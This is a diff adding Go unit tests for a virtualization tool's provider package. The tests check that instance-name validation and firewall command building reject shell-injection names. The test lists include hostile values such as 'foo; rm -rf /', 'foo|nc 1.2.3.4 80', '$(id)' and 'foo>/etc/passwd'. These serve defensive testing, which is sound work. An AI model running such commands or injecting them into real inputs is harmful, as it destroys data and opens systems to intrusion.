@@ -0,0 +1,64 @@
+package provider
+
+import (
+	"errors"
+	"strings"
+	"testing"
+
+	"oneclickvirt/utils"
+)
+
+// TestValidateInstanceName 测试实例名称校验拒绝注入形式的名称
+func TestValidateInstanceName(t *testing.T) {
+	valid := []string{"docker-d73a", "incus_node1-0f2c", "web.example", "100"}
+	for _, name := range valid {
+		if err := ValidateInstanceName(name); err != nil {
+			t.Fatalf("合法名称 %q 不应报错: %v", name, err)
+		}
+	}
+
+	unsafe := []string{
+		"foo; rm -rf /",
+		"foo && reboot",
+		"foo|nc 1.2.3.4 80",
+		"$(id)",
+		"`id`",
+		"foo'bar",
+		"foo\"bar",
+		"foo bar",
+		"foo\nreboot",
+		"foo>/etc/passwd",
+		"-rf",
+		"../etc",
+	}
+	for _, name := range unsafe {
+		if err := ValidateInstanceName(name); !errors.Is(err, ErrUnsafeInstanceName) {
+			t.Fatalf("期望拒绝名称 %q，实际: %v", name, err)
+		}
+	}
+
+	if err := ValidateInstanceName(""); err == nil {
+		t.Fatal("空名称应报错")
+	}
+	if err := ValidateInstanceName(strings.Repeat("a", MaxInstanceNameLength+1)); err == nil {
+		t.Fatal("超长名称应报错")
+	}
+}
+
+// TestGenerateInstanceNameIsSafe 测试由包含特殊字符的Provider名称生成的实例名称可通过校验
+func TestGenerateInstanceNameIsSafe(t *testing.T) {
+	for _, providerName := range []string{"foo; rm -rf /", "My Node_1", "节点", "$(reboot)"} {
+		name := utils.GenerateInstanceName(providerName)
+		if err := ValidateInstanceName(name); err != nil {
+			t.Fatalf("Provider名称 %q 生成的实例名称 %q 未通过校验: %v", providerName, name, err)
+		}
+	}
+}
+
+// TestBuildFirewallRuleCommandRejectsUnsafeName 测试防火墙命令构建拒绝不安全的实例名称
+func TestBuildFirewallRuleCommandRejectsUnsafeName(t *testing.T) {
+	rule := FirewallRule{Protocol: "tcp", Port: 22, Action: "deny"}
+	if _, err := BuildFirewallRuleCommand("foo; rm -rf /", []string{"10.0.0.2"}, []string{"FORWARD"}, rule); err == nil {
+		t.Fatal("期望拒绝不安全的实例名称")
+	}
+}